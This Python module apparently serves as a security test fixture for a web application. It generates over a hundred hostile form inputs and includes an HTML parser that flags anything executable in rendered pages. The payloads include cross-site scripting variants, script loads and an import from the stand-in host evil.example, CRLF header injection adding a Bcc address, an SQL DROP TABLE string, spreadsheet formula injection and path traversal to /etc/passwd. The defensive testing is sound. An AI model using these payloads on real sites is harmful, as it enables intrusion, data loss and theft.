"""Hostile texts, a hundred and more, for every field that the public fills in (S-12)."""

from html.parser import HTMLParser

_CALLS = ["alert(1)", "confirm`1`", "top['al'+'ert'](1)", "import('//evil.example')"]
_ELEMENTS = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js></script>{}",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">x</a>',
    '<a href="java\tscript:{}">x</a>',
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math href=javascript:{}>x</math>",
    "<form action=javascript:{}><button>x</button></form>",
    "<style>@import 'javascript:{}'</style>",
    "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data=javascript:{}></object>",
    "<template><script>{}</script></template>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}' x='",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "<!--><script>{}</script>-->",
    "]]><script>{}</script>",
]
_OTHERS = [
    "{{ 7*7 }}", "{% load static %}", "${7*7}", "$bestaetigen", "$titel", "$$", "{0.__class__}", "%s%n",
    "%0d%0aBcc: x@evil.example", "[x](javascript:alert(1))", "![x](https://evil.example/pixel.gif)",
    "<https://evil.example>", "**fett** _schräg_", "&lt;script&gt;", "&#60;script&#62;alert(1)",
    "\\u003cscript\\u003e", "javascript:alert(1)", "data:text/html,<script>1</script>",
    "x\r\nBcc: opfer@example.org", "Zeile\u2028Trenner", "\u202egedreht", "Null\u200bbreite",
    "'; DROP TABLE wegweiser_offer; --", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "../../etc/passwd", "🏚️" * 20, "A" * 149,
]  # fmt: skip
PAYLOADS = [element.format(call) for element in _ELEMENTS for call in _CALLS] + _OTHERS


class Page(HTMLParser):
    """Reads a page as a browser would, and collects what could run in it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.runs: list[str] = []
        self._script = self._style = False
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        names = dict(attributes)
        if any(name.startswith("on") for name in names) or "srcdoc" in names:
            self.runs.append(f"{tag} {attributes}")
        for name in ("href", "src", "action", "data", "formaction", "content"):
            value = "".join((names.get(name) or "").split()).lower()
            if value.startswith(("javascript:", "data:text", "vbscript:")) or "evil.example" in value:
                self.runs.append(f"{tag} {name}={value}")
        if tag in {"iframe", "object", "embed", "base", "math"}:
            self.runs.append(tag)
        self._style = tag == "style"  # our mails have one
        if tag == "script":
            self._script = not names.get("src") and names.get("type") not in {"application/ld+json", "application/json"}

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.runs.append(f"script {data[:60]}")
        if self._style and ("@import" in data or "script:" in data):
            self.runs.append(f"style {data[:60]}")
        self._script = self._style = False


def runs(html: str) -> list[str]:
    return Page(html).runs
